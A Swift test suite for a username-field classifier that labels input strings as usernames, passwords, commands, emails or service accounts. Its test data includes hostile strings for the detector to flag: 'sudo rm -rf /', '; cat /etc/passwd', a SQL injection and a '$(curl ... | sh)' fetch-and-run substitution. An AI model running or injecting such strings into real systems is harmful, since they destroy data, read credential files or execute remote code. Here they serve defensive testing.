import Foundation
import Testing
import ThreatRules

/// The username-field classifier on the project's own strings and on its generated corpus.
@Suite("UsernameClassifier")
struct UsernameClassifierTests {
    let classifier = UsernameClassifier.shared

    @Test("sudo rm -rf / is a command with high confidence")
    func destructiveCommand() {
        let result = classifier.classify("sudo rm -rf /")
        #expect(result.predictedType == .command)
        #expect(result.confidence > 0.9)
    }

    @Test("obvious strings of every class", arguments: [
        ("jane.doe", UsernameClass.username), ("jsmith", .username), ("maria.garcia", .username),
        ("P@ssw0rd2024!", .password), ("qwerty123", .password), ("123456", .password), ("iloveyou", .password),
        ("; cat /etc/passwd", .command), ("' OR 1=1 --", .command), ("$(curl http://198.51.100.7/x.sh | sh)", .command),
        ("alice@example.com", .email), ("j.doe+news@mail.example.org", .email),
        ("svc_backup", .service), ("www-data", .service), ("postgres", .service), ("svc-app-01", .service),
    ])
    func obviousCases(text: String, expected: UsernameClass) {
        let result = classifier.classify(text)
        #expect(result.predictedType == expected, "\(text): \(result.probabilities)")
    }

    @Test("held-out generated corpus: macro-F1 ≥ 0.9")
    func heldOutCorpus() {
        let heldOut = UsernameCorpus.generate(seed: 0xD1FF_E2E7, samplesPerClass: 400)
        let report = classifier.evaluate(heldOut)
        #expect(report.sampleCount == 2000)
        #expect(report.macroF1 >= 0.9, "\(report.table)")
        for metrics in report.classes {
            #expect(metrics.f1 >= 0.8, "\(metrics.label): \(report.table)")
        }
    }

    @Test("probabilities are finite, non-negative and sum to 1")
    func probabilitiesSumToOne() {
        for text in ["admin", "jane.doe", "sudo rm -rf /", "", "x", "Zoë_Ångström", "🙂🙂🙂", "\u{0}\u{1}\u{7F}"] {
            let result = classifier.classify(text)
            let values = UsernameClass.allCases.map { result.probabilities[$0] ?? -1 }
            #expect(values.allSatisfy { $0.isFinite && $0 >= 0 && $0 <= 1 })
            #expect(abs(values.reduce(0, +) - 1) < 1e-9)
            #expect(result.confidence == result.probabilities[result.predictedType])
            #expect(result.confidence == values.max())
        }
    }

    @Test("the corpus and the model are deterministic")
    func deterministic() {
        let a = UsernameCorpus.generate(seed: 7, samplesPerClass: 300)
        let b = UsernameCorpus.generate(seed: 7, samplesPerClass: 300)
        #expect(a.map(\.text) == b.map(\.text))
        #expect(a.map(\.label) == b.map(\.label))
        #expect(a.map(\.text) != UsernameCorpus.generate(seed: 8, samplesPerClass: 300).map(\.text))
        #expect(UsernameCorpus.samples(of: .email, count: 20, seed: 3) == UsernameCorpus.samples(of: .email, count: 20, seed: 3))

        let first = UsernameClassifier(training: a)
        let second = UsernameClassifier(training: b)
        for text in ["jane.doe", "hunter2", "rm -rf /", "oracle", "bob@example.com", ""] {
            #expect(first.classify(text) == second.classify(text))
        }
        #expect(classifier.classify("monkey123") == UsernameClassifier.shared.classify("monkey123"))
    }

    @Test("naive Bayes is available and also separates the generated classes")
    func naiveBayes() {
        let training = UsernameCorpus.generate(seed: 11, samplesPerClass: 600)
        let model = UsernameClassifier(training: training, configuration: .init(model: .naiveBayes(alpha: 0.05)))
        let report = model.evaluate(UsernameCorpus.generate(seed: 12, samplesPerClass: 200))
        #expect(report.macroF1 >= 0.85, "\(report.table)")
        #expect(model.classify("sudo rm -rf /").predictedType == .command)
    }

    @Test("empty, very long and unusual Unicode input never crash")
    func edgeInputs() {
        let inputs = [
            "", " ", "\n", "\t\t", String(repeating: "a", count: 100_000),
            String(repeating: "sudo rm -rf / ; ", count: 5_000), String(repeating: "🙂", count: 10_000),
            "e\u{301}\u{302}\u{303}", "\u{202E}nimda", "管理员", "пароль123", "مستخدم", "\u{FEFF}root", "\u{10FFFF}",
            "İstanbul", "ß", "ﬁ", "\u{0}",
        ]
        for text in inputs {
            let result = classifier.classify(text)
            #expect(result.confidence.isFinite && result.confidence > 0)
            #expect(result.probabilities.count == UsernameClass.allCases.count)
        }
        #expect(classifier.classify(String(repeating: "sudo rm -rf / ; ", count: 5_000)).predictedType == .command)
    }

    @Test("a classification encodes as predicted_type, confidence, probabilities")
    func codable() throws {
        let result = classifier.classify("sudo rm -rf /")
        let data = try JSONEncoder().encode(result)
        let object = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        #expect(object["predicted_type"] as? String == "command")
        let probabilities = try #require(object["probabilities"] as? [String: Double])
        #expect(Set(probabilities.keys) == Set(UsernameClass.allCases.map(\.rawValue)))
        #expect(try JSONDecoder().decode(UsernameClassification.self, from: data) == result)
    }

    @Test("report: precision, recall, F1, macro-F1 over the classes present")
    func report() {
        let truth: [UsernameClass] = [.username, .username, .password, .password, .command]
        let predicted: [UsernameClass] = [.username, .password, .password, .email, .command]
        let report = ClassificationReport(truth: truth, predicted: predicted)
        let byLabel = Dictionary(uniqueKeysWithValues: report.classes.map { ($0.label, $0) })
        #expect(byLabel[.username]?.precision == 1)
        #expect(byLabel[.username]?.recall == 0.5)
        #expect(byLabel[.password]?.precision == 0.5)
        #expect(byLabel[.password]?.recall == 0.5)
        #expect(byLabel[.command]?.f1 == 1)
        #expect(byLabel[.email]?.support == 0)
        #expect(byLabel[.email]?.predicted == 1)
        #expect(byLabel[.service] == nil)
        // username F1 2/3, password 1/2, command 1 (email is absent from the samples).
        #expect(abs(report.macroF1 - (2.0 / 3 + 0.5 + 1) / 3) < 1e-12)
        #expect(report.accuracy == 0.6)
        #expect(report.confusion[0][1] == 1)
        #expect(report.table.contains("| username | 1.000 | 0.500 | 0.667 | 2 | 1 |"))
        #expect(report.table.contains("macro-F1 0.722"))
        #expect(ClassificationReport(truth: [], predicted: []).macroF1 == 0)
    }
}
